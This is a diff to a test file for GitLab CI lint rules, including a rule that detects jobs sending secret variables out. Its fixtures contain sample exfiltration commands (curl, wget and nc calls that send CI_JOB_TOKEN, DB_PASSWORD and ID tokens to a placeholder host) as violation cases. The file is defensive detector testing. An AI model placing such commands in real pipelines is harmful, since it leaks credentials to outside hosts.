@@ -1,5 +1,5 @@
 import { describeRule } from "../support/describe-rule";
-import { file } from "../support/gitlab";
+import { file, project } from "../support/gitlab";
 import { CANARY, UNKNOWN } from "../support/resources";
 
 const ci = (content: string, filePath = ".gitlab-ci.yml") => file({ filePath, content }, { name: filePath });
@@ -50,21 +50,31 @@ describeRule("gitlab-ci-pinned-image", {
     ],
     "no CI file": file(),
   },
-  unknown,
+  unknown: { ...unknown, "what kind of file it is": [ci(UNKNOWN, "ci/build.yml"), "content"] },
 });
 
 const BOTH =
-  "job: {rules: [{if: '$CI_PIPELINE_SOURCE == \"merge_request_event\"'}, {if: '$CI_COMMIT_BRANCH'}]}\n";
+  "job: {script: make, rules: [{if: '$CI_PIPELINE_SOURCE == \"merge_request_event\"'}, {if: '$CI_COMMIT_BRANCH'}]}\n";
 
 describeRule("gitlab-ci-one-pipeline", {
-  violates: { "for branches and merge requests": [ci(BOTH), "say in workflow: rules when there is one"] },
+  violates: {
+    "for branches and merge requests": [ci(BOTH), "say in workflow: rules when there is one"],
+    "in a file of another name": [
+      [project({ ciConfigPath: "ci/build.yml" }), ci(BOTH, "ci/build.yml")],
+      "starts two pipelines",
+    ],
+  },
   passes: {
     "with workflow rules": ci(`workflow: {rules: [{if: $CI_COMMIT_BRANCH}]}\n${BOTH}`),
-    "for merge requests only": ci("job: {rules: [{if: '$CI_PIPELINE_SOURCE == \"merge_request_event\"'}]}"),
+    "for merge requests only": ci(
+      "job: {script: make, rules: [{if: '$CI_PIPELINE_SOURCE == \"merge_request_event\"'}]}",
+    ),
     "what is included": ci(BOTH, ".gitlab/x.yml"),
   },
   unknown,
 });
+
+const SENDING = 'job: {script: ["curl https://a?t=$CI_JOB_TOKEN"]}';
 
 describeRule("gitlab-ci-no-variables-sent", {
   violates: {
@@ -76,11 +86,23 @@ describeRule("gitlab-ci-no-variables-sent", {
       ci('job: {before_script: [["wget -q https://a?x=$DB_PASSWORD"]]}'),
       "sends DB_PASSWORD away",
     ],
+    "an ID token of any name": [
+      ci('job: {script: ["curl -d \\"$AZURE_ID_TOKEN\\" https://a", "nc a 1 <<< $STATE_ID_TOKEN"]}'),
+      "sends AZURE_ID_TOKEN away",
+      "sends STATE_ID_TOKEN away",
+    ],
+    "in a file of another name, which a file of somebody's includes": [
+      ci(SENDING, "ci/build.yml"),
+      "ci/build.yml: sends CI_JOB_TOKEN away",
+    ],
   },
   passes: {
     "a fetch": ci('job: {script: ["curl -O https://example.com/$CI_COMMIT_SHA"]}'),
     "a tool of its own": ci('job: {script: ["sopsloop rewrap --push"]}'),
     "no CI file": file(),
+    "YAML of another kind": ci(`apiVersion: example.com/v1\n${SENDING}`, "apps/job.yml"),
+    "what is no YAML, and need not be": ci("{{ a }}: [", "charts/a/templates/b.yaml"),
+    "a setting that is no secret": ci('job: {script: ["curl $TOKEN_URL"]}'),
   },
   unknown,
 });
